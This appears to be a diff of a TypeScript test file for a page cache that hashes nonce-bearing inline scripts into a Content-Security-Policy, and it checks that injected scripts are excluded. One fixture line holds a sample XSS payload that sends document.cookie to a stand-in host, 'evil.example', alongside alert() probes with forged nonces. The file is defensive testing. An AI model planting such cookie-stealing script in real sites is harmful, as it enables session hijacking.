@@ -7,7 +7,7 @@ import { afterEach, describe, expect, it } from "vitest";
 import { silentLogger } from "../core/log";
 import {
   createPageCache,
-  inlineScriptHashes,
+  ownInlineScripts,
   pageKey,
   policyWithHashes,
   type RenderedPage,
@@ -62,15 +62,29 @@ describe("pageKey", () => {
 describe("inline script hashes", () => {
   const sha = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
 
-  it("hashes each inline script as the browser does, and skips external scripts and data blocks", () => {
+  it("hashes the scripts that carry the render's nonce, as the browser does, and takes the nonce out", () => {
     const html = [
-      "<script>window.a=1</script>",
-      '<script type="module">import("/assets/x.js")</script>',
-      '<script type="module" src="/assets/entry.js"></script>',
+      '<script nonce="n0nce">window.a=1</script>',
+      '<script nonce="n0nce" type="module">import("/assets/x.js")</script>',
+      '<script nonce="n0nce" type="module" src="/assets/entry.js"></script>',
       '<script type="application/ld+json">{"@type":"LocalBusiness"}</script>',
-      "<script>window.a=1</script>",
+      '<script nonce="n0nce">window.a=1</script>',
     ].join("");
-    expect(inlineScriptHashes(html)).toEqual([sha("window.a=1"), sha('import("/assets/x.js")')]);
+    const own = ownInlineScripts(html, "n0nce");
+    expect(own.hashes).toEqual([sha("window.a=1"), sha('import("/assets/x.js")')]);
+    expect(own.html).not.toContain("n0nce");
+    expect(own.html).toContain('<script type="module">import("/assets/x.js")</script>');
+  });
+
+  it("never allows a script that came in with the content: it cannot carry the render's nonce", () => {
+    const html = [
+      '<script nonce="n0nce">window.a=1</script>',
+      // From a WordPress field: no nonce, a guessed one, the attribute spelled another way.
+      "<p>Our work</p><script>fetch('//evil.example/'+document.cookie)</script>",
+      '<script nonce="guess">alert(1)</script>',
+      "<script nonce='n0nce'>alert(2)</script>",
+    ].join("");
+    expect(ownInlineScripts(html, "n0nce").hashes).toEqual([sha("window.a=1")]);
   });
 
   it("replaces the nonce in script-src with the hashes and leaves every other directive alone", () => {
@@ -162,7 +176,11 @@ describe("the page cache", () => {
     let clock = 1_000_000;
     const cache = createPageCache({
       freshMs: 60_000,
-      render: async () => page(200, "<h1>Driveways</h1><script>window.a=1</script>"),
+      render: async (_key, nonce) =>
+        page(
+          200,
+          `<h1>Driveways</h1><script nonce="${nonce}">window.a=1</script><script>window.b=2</script>`,
+        ),
       pageQuery: albumQuery,
       log: silentLogger,
       now: () => clock,
@@ -193,9 +211,10 @@ describe("the page cache", () => {
     expect([miss.headers.get("x-cache"), hit.headers.get("x-cache"), reachedApp]).toEqual(["MISS", "HIT", 1]);
     expect(await hit.text()).toBe(await miss.text());
     expect(headersOf(hit)).toEqual(headersOf(miss));
-    expect(hit.headers.get("content-security-policy")).toContain(
-      inlineScriptHashes("<script>window.a=1</script>")[0],
-    );
+    const policy = hit.headers.get("content-security-policy") ?? "";
+    expect(policy).toContain(ownInlineScripts('<script nonce="x">window.a=1</script>', "x").hashes[0]);
+    expect(policy).not.toContain(ownInlineScripts('<script nonce="x">window.b=2</script>', "x").hashes[0]);
+    expect(policy).not.toContain("'nonce-");
 
     const unchanged = await fetch(`${origin}/services/driveways`, {
       headers: { "If-None-Match": miss.headers.get("etag") ?? "" },
